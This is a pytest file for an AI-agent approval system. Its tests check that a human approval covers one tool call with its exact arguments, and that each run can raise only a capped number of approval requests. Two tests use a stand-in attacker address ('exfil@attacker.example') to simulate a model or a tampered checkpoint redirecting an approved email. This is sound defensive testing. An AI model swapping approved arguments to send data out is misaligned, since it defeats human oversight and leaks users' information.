"""An approval covers one call with exactly its arguments, and a run cannot flood its approvers."""


import pytest
from django.contrib.auth.models import User

from agents.models import SentEmail
from runs import services
from runs.models import ApprovalRequest, Run, SideEffect
from tests.runs.helpers import run_script

pytestmark = pytest.mark.django_db

EMAIL = {"to": "dana.whitfield@example.com", "subject": "Renewal", "body": "Hello"}


def _decide(run: Run, approve: bool, reason: str = "") -> ApprovalRequest:
    reason = reason or ("" if approve else "not this one")
    approval = ApprovalRequest.objects.get(run=run, status="pending")
    services.approval_decide(via="session", approval_id=approval.id, user=User.objects.get(username="approver"), approve=approve,
                             reason=reason)
    services.run_advance(run_id=run.id)
    run.refresh_from_db()
    return approval


def test_after_an_approval_the_model_changing_the_arguments_parks_again(replay_agent):
    redirected = dict(EMAIL, to="exfil@attacker.example")
    run = run_script({"turns": [[{"name": "send_email", "arguments": EMAIL}],
                          [{"name": "send_email", "arguments": redirected}]]})
    _decide(run, approve=True)
    assert run.status == "awaiting_approval", "the same tool with other arguments is a new request"
    assert list(SentEmail.objects.values_list("to", flat=True)) == ["dana.whitfield@example.com"]
    pending = ApprovalRequest.objects.get(run=run, status="pending")
    assert pending.arguments == redirected


def test_arguments_changed_after_the_approval_was_asked_for_are_not_executed_and_park_again(replay_agent):
    run = run_script({"turns": [[{"name": "send_email", "arguments": EMAIL}]]})
    asked = ApprovalRequest.objects.get(run=run, status="pending")
    # The checkpoint is edited between the request and the decision (a bug, a replay, someone
    # with database access): the approver approves what they were shown, not what is now queued.
    state = run.state
    state["pending"][0]["arguments"] = dict(EMAIL, to="exfil@attacker.example")
    Run.objects.filter(id=run.id).update(state=state)
    _decide(run, approve=True)
    assert run.status == "awaiting_approval"
    assert SentEmail.objects.count() == 0 and SideEffect.objects.filter(run=run).count() == 0
    again = ApprovalRequest.objects.get(run=run, status="pending")
    assert again.id != asked.id and again.arguments["to"] == "exfil@attacker.example"
    assert again.arguments_sha256 != asked.arguments_sha256


def _email_turns(count: int) -> dict:
    return {"turns": [[{"name": "send_email", "arguments": dict(EMAIL, subject=f"Try {n}")}] for n in range(count)]}


def test_a_run_raises_at_most_five_approval_requests_then_its_calls_are_refused(replay_agent):
    run = run_script(_email_turns(7))
    for _ in range(5):
        _decide(run, approve=False)
    assert run.status == "succeeded"
    assert ApprovalRequest.objects.filter(run=run).count() == 5
    refused = run.events.filter(kind="tool_refused", data__code="approval_limit")
    assert refused.count() == 2 and "did not run" in refused.first().data["reason"]
    assert SentEmail.objects.count() == 0


def test_the_approval_request_cap_is_a_setting_frozen_when_the_run_starts(replay_agent, settings):
    settings.WARRANT = {**settings.WARRANT, "MAX_APPROVAL_REQUESTS_PER_RUN": 2}
    run = run_script(_email_turns(3))
    settings.WARRANT = {**settings.WARRANT, "MAX_APPROVAL_REQUESTS_PER_RUN": 50}
    _decide(run, approve=False)
    _decide(run, approve=False)
    assert run.status == "succeeded"
    assert ApprovalRequest.objects.filter(run=run).count() == 2
    assert run.events.filter(kind="tool_refused", data__code="approval_limit").count() == 1
